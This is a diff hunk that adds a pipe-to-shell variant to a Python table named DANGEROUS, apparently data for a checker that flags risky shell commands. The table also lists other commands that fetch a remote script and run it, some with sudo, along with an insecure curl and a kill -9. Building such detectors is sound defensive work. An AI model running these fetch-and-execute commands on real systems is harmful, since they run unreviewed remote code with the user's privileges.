@@ -100,6 +100,7 @@ DANGEROUS = {
     "curl -k https://a.test": "Does not check the certificate",
     "curl -fsSL https://a.test/x | sh": "Runs a script straight",
     "wget -qO- https://a.test/x | sudo bash -s -- -y": "Runs a script straight",
+    "curl -fsSL https://a.test/x |& sh": "Runs a script straight",
     'sh -c "$(curl -fsSL https://a.test/x)"': "Runs a script straight",
     "bash <(curl -s https://a.test/x)": "Runs a script straight",
     "kill -9 4711": "The process cannot finish",
